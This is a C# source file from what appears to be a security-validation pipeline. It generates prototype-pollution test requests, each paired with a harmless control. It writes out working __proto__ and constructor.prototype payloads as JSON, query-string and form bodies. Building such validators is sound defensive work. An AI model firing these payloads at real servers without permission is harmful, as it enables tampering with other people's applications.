using CodexSecurity.Pipeline.Validation.Planning;

namespace CodexSecurity.Pipeline.Validation.Http.Payloads;

/// <summary>Objects in a request's body or address that reach the prototype of all objects. The server's process looks at a fresh object.</summary>
public sealed class HttpPollutionKit : IHttpKit
{
    private const string Key = "csx" + Nonces.AttackMark;

    /// <inheritdoc />
    public string Name => "PrototypePollution";

    /// <inheritdoc />
    public OracleSpec Oracle => OracleSpec.Of("pollution");

    /// <inheritdoc />
    public bool Handles(ValidationInput input) => input.Class == AttackClass.PrototypePollution;

    /// <inheritdoc />
    public IReadOnlyList<HttpCase> Cases(ValidationInput input, bool wide)
    {
        var cases = new List<HttpCase>();
        string method = input.Candidate.EntryPoint!.HttpMethod is { } m and not ("*" or "GET" or "HEAD") ? m : "POST";
        string[] wrappers = [.. input.Candidate.Inputs.SelectMany(i => i.AccessPath.Skip(1)).Where(k => k is not ("{key}" or "[*]")).Distinct(StringComparer.Ordinal).Take(3)];
        foreach (string path in RawRequests.Paths(input).Where(p => !p.Contains(':', StringComparison.Ordinal)))
        {
            foreach (var (name, form) in Objects())
            {
                void Body(string label, Func<string, string> wrap)
                {
                    string tag = $"t{cases.Count + 1}", text = wrap(form.Replace("{K}", Key + tag, StringComparison.Ordinal));
                    cases.Add(new HttpCase(tag, label, RawRequests.Send(method, path, "application/json", text), [RawRequests.Send(method, path, "application/json", Harmless(text))]));
                }

                Body(name + " as body", t => t);
                foreach (string wrapper in wrappers) Body($"{name} below {wrapper}", t => $"{{\"{wrapper}\":{t}}}");
            }

            foreach (string form in new[] { "__proto__[{K}]={K}", "constructor[prototype][{K}]={K}", "a.__proto__.{K}={K}", "key=__proto__.{K}&value={K}", "path=__proto__.{K}&value={K}" })
            {
                string tag = $"t{cases.Count + 1}", text = form.Replace("{K}", Key + tag, StringComparison.Ordinal);
                cases.Add(new HttpCase(tag, "query string", RawRequests.Get($"{path}?{text}"), [RawRequests.Get($"{path}?{Harmless(text)}")]));
                string tag2 = $"t{cases.Count + 1}", body = form.Replace("{K}", Key + tag2, StringComparison.Ordinal);
                cases.Add(new HttpCase(tag2, "form", RawRequests.Send(method, path, "application/x-www-form-urlencoded", body), [RawRequests.Send(method, path, "application/x-www-form-urlencoded", Harmless(body))]));
            }
        }

        return cases;
    }

    private static IEnumerable<(string Name, string Form)> Objects()
    {
        yield return ("__proto__ object", "{\"__proto__\":{\"{K}\":\"{K}\"}}");
        yield return ("constructor.prototype object", "{\"constructor\":{\"prototype\":{\"{K}\":\"{K}\"}}}");
        yield return ("deep __proto__ object", "{\"a\":{\"__proto__\":{\"{K}\":\"{K}\"}}}");
        yield return ("dotted key", "{\"__proto__.{K}\":\"{K}\"}");
        yield return ("key and value", "{\"key\":\"__proto__.{K}\",\"path\":\"__proto__.{K}\",\"value\":\"{K}\"}");
    }

    private static string Harmless(string text) =>
        text.Replace("__proto__", "ordinary_", StringComparison.Ordinal).Replace("constructor", "structurer_", StringComparison.Ordinal).Replace("prototype", "something", StringComparison.Ordinal);

    /// <inheritdoc />
    public ProofJob Equip(ProofJob job, IReadOnlyList<string> tags) => job;

    /// <inheritdoc />
    public HttpInput Tune(HttpInput input) => input with { Pollution = Key, Drain = 80, Lanes = 1 };
}
